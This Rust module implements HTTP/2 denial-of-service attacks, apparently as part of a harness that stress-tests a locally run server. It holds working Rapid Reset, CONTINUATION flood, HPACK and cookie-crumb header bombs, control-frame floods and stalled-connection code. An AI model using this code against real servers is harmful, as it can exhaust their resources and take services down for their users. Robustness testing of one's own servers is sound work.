//! Attacks by frames of HTTP/2.

use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use crate::World;
use crate::h2raw::*;

/// Sends what `more` makes of 0, 1, 2, … as fast as it is taken; opens another connection when one ends.
fn flood(world: &World, first: &[u8], more: impl Fn(u32) -> Vec<u8>) {
    while world.goes_on() {
        let mut client = H2::open(world.process.clear);
        let _ = client.socket().set_write_timeout(Some(Duration::from_millis(500)));
        world.opened.fetch_add(1, Relaxed);
        client.send(first);
        let mut n = 0;
        // What cannot be sent within the timeout is not taken: then it is only held open for a while.
        while world.goes_on() && n < 1 << 28 && client.try_send(more(n)) {
            n += 1;
        }
        if world.goes_on() {
            world.ended.fetch_add(1, Relaxed);
        }
    }
}

fn get_small() -> Vec<u8> {
    block(&get("/small"))
}

fn open_stream(path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, &block(&request(b"POST", path)))
}

pub(crate) fn rapid_reset(world: &World) {
    let block = get_small();
    flood(world, &[], |n| {
        let stream = 2 * n + 1;
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, &block), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    });
}

pub(crate) fn continuation(world: &World) {
    let field = literal(b"x-flood", &[b'y'; 1000]);
    let begin = frame(HEADERS, 0, 1, &get_small());
    flood(world, &begin, |_| frame(CONTINUATION, 0, 1, &field));
}

pub(crate) fn hpack_bomb(world: &World) {
    // A field of nearly the whole table, and then one byte for each copy of it.
    let large = indexed_literal(b"x-bomb", &[b'y'; 4000]);
    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &[get_small(), large].concat());
    let bomb = [get_small(), vec![0xbe; 4000]].concat();
    flood(world, &first, |n| frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 3, &bomb));
}

pub(crate) fn crumb_bomb(world: &World) {
    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &[get_small(), indexed_literal(b"cookie", b"a")].concat());
    let bomb = [get_small(), vec![0xbe; 10_000]].concat();
    flood(world, &first, |n| frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 3, &bomb));
}

pub(crate) fn settings(world: &World) {
    let many = frame(SETTINGS, 0, 0, &setting(4, 65_535)).repeat(100);
    flood(world, &[], |_| many.clone());
}

pub(crate) fn ping(world: &World) {
    let many = frame(PING, 0, 0, &[7; 8]).repeat(100);
    flood(world, &[], |_| many.clone());
}

pub(crate) fn priority(world: &World) {
    let many: Vec<u8> = (0..100).flat_map(|n| frame(PRIORITY, 0, 2 * n + 1001, &[0, 0, 0, 3, 1])).collect();
    flood(world, &[], |_| many.clone());
}

pub(crate) fn empty_data(world: &World) {
    let many = frame(DATA, 0, 1, &[]).repeat(100);
    flood(world, &open_stream("/small"), |_| many.clone());
}

pub(crate) fn small_data(world: &World) {
    let many = frame(DATA, 0, 1, b"x").repeat(100);
    flood(world, &open_stream("/deaf"), |_| many.clone());
}

pub(crate) fn stalled(world: &World) {
    let mut clients = Vec::new();
    while world.goes_on() {
        if clients.len() < 20 {
            let mut client = H2::silent(world.process.clear);
            world.opened.fetch_add(1, Relaxed);
            client.begin(&setting(4, 1));
            client.socket().set_nonblocking(true).expect("a socket");
            let block = block(&get("/large"));
            for n in 0..100 {
                client.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &block));
            }
            clients.push(client);
        }
        // One that pretends to live: pings, and a byte for a stream now and then.
        clients.retain_mut(|client| {
            client.try_send(frame(PING, 0, 0, &[1; 8])) || {
                world.ended.fetch_add(1, Relaxed);
                false
            }
        });
        std::thread::sleep(Duration::from_millis(50));
    }
}
